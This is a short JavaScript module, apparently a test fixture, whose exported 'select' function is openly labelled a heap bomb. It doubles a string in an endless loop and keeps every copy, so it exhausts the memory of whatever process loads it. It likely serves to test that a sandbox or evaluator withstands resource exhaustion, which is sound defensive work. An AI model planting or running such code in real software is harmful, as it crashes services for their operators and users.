// Heap bomb: double a string until it no longer fits, keeping every generation alive.
module.exports = function select(ctx) {
  const keep = [];
  let s = ctx.members[1];
  for (;;) { s = s + s; keep.push(s, s.slice(1)); }
};
